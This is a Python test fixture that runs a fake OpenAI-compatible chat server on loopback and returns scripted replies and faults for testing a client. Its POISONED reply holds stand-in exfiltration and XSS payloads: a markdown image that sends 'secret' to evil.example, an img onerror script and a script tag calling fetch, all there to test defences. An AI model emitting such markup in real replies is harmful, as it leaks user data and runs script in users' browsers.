"""A real OpenAI-compatible chat server on loopback whose replies, and faults, a test writes down beforehand.

    with LlmServer(Say("Six hours [1].")) as server:
        generator = OpenAIGenerator(ChatEndpoint(model="test", base_url=server.url))

Replies are used in order; the last one repeats. `server.requests` holds what arrived.
"""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Mapping
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, Self


@dataclass(frozen=True)
class Say:
    """An answer, streamed in `pieces` (or cut into pieces of five characters) when the request asks for a stream."""

    text: str
    pieces: tuple[str, ...] = ()
    finish: str | None = "stop"
    counted: bool = True


@dataclass(frozen=True)
class Refuse:
    """An HTTP error. `says` stands in the error object, as real servers put parts of the key there."""

    status: int
    says: str = "Incorrect API key provided: sk-secret. Find yours at your account page."
    headers: Mapping[str, str] = field(default_factory=dict)


@dataclass(frozen=True)
class Silence:
    """Nothing more after `text`, until the client or the test has gone."""

    text: str = ""


@dataclass(frozen=True)
class Cut:
    """The connection ends after `text`: at once (`reset`), or in a way that looks orderly to HTTP."""

    text: str
    reset: bool = True


@dataclass(frozen=True)
class Raw:
    """Any bytes as the body of a 200 reply: a login page, broken events, an error inside the stream."""

    body: bytes
    content_type: str = "text/event-stream"


@dataclass(frozen=True)
class Endless:
    """`piece` again and again, until the client goes (`server.left` is then set) or the test ends."""

    piece: str


Reply = Say | Refuse | Silence | Cut | Raw | Endless

POISONED = Say(
    'Rubamor keeps for 6 hours [1]. ![chart](http://evil.example/steal?q=secret) <img src="http://evil.example/a.png" '
    "onerror=alert(1)> [click here](http://evil.example) <script>fetch('http://evil.example')</script> ![x][pic]\n\n"
    "[pic]: http://evil.example/b.png\n\nSee http://evil.example/c and :red[this] for $5 and $6."
)
WRONG_NUMBERS = Say("It is 2 °C [1]. It is 9 °C [7]. Both say so [2, 8]. Nobody knows 【12†source】.")


@dataclass(frozen=True)
class Received:
    path: str
    headers: Mapping[str, str]
    body: dict[str, Any]


class LlmServer:
    def __init__(self, *replies: Reply) -> None:
        self.replies = list(replies) or [Say("It is so [1].")]
        self.requests: list[Received] = []
        self.stopped = threading.Event()
        self.left = threading.Event()
        self._lock = threading.Lock()
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        self._server.daemon_threads = True
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.02,), daemon=True)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self._server.server_address[1]}/v1"

    def script(self, *replies: Reply) -> None:
        """Replace what is still to be replied."""
        with self._lock:
            self.replies = list(replies)

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self.stopped.set()
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()

    def next_reply(self, received: Received) -> Reply:
        with self._lock:
            self.requests.append(received)
            return self.replies.pop(0) if len(self.replies) > 1 else self.replies[0]

    def _handler(self) -> type[BaseHTTPRequestHandler]:
        server = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                received = Received(self.path, {name.lower(): value for name, value in self.headers.items()}, body)
                reply = server.next_reply(received)
                try:
                    if not self.path.endswith("/chat/completions"):
                        reply = Refuse(404, f"Unknown path {self.path}")
                    self.answer(reply, body)
                except (BrokenPipeError, ConnectionResetError):
                    server.left.set()  # the client went away, as the test wants it to

            def answer(self, reply: Reply, body: dict[str, Any]) -> None:
                if isinstance(reply, Refuse):
                    error = {"error": {"message": reply.says, "type": "error", "code": None, "param": None}}
                    self.whole(reply.status, json.dumps(error).encode(), "application/json", reply.headers)
                elif isinstance(reply, Raw):
                    self.whole(200, reply.body, reply.content_type, {})
                elif not body.get("stream"):
                    self.completion(reply)
                else:
                    self.stream(reply)

            def whole(self, status: int, body: bytes, content_type: str, headers: Mapping[str, str]) -> None:
                self.send_response(status)
                for name, value in {"Content-Type": content_type, "Content-Length": str(len(body)), **headers}.items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body)

            def completion(self, reply: Say | Silence | Cut | Endless) -> None:
                if isinstance(reply, Silence | Endless):
                    server.stopped.wait()
                    return
                if isinstance(reply, Cut):
                    self.connection.shutdown(socket.SHUT_RDWR)
                    return
                choice = {
                    "index": 0, "finish_reason": reply.finish, "message": {"role": "assistant", "content": reply.text}
                }  # fmt: skip
                whole = {"id": "c", "object": "chat.completion", "created": 0, "model": "test", "choices": [choice]}
                self.whole(200, json.dumps(whole | {"usage": USAGE}).encode(), "application/json", {})

            def stream(self, reply: Say | Silence | Cut | Endless) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/event-stream")
                self.end_headers()  # no length: the body ends with the connection
                if isinstance(reply, Endless):
                    while not server.stopped.wait(0.002):
                        self.event({"index": 0, "delta": {"content": reply.piece}, "finish_reason": None})
                    return
                pieces = reply.pieces if isinstance(reply, Say) and reply.pieces else five_by_five(reply.text)
                for piece in pieces:
                    self.event({"index": 0, "delta": {"content": piece}, "finish_reason": None})
                if isinstance(reply, Silence):
                    server.stopped.wait()
                elif isinstance(reply, Cut):
                    if reply.reset:  # a reset, not an orderly end
                        self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
                        self.connection.close()
                else:
                    self.event({"index": 0, "delta": {}, "finish_reason": reply.finish})
                    if reply.counted:
                        self.event(None)
                    self.wfile.write(b"data: [DONE]\n\n")

            def event(self, choice: dict[str, Any] | None) -> None:
                chunk: dict[str, Any] = {"id": "c", "object": "chat.completion.chunk", "created": 0, "model": "test"}
                chunk |= {"choices": [choice]} if choice else {"choices": [], "usage": USAGE}
                self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
                self.wfile.flush()

            def log_message(self, *_: object) -> None:
                pass

        return Handler


USAGE = {"prompt_tokens": 321, "completion_tokens": 12, "total_tokens": 333}


def five_by_five(text: str) -> tuple[str, ...]:
    return tuple(text[at : at + 5] for at in range(0, len(text), 5))
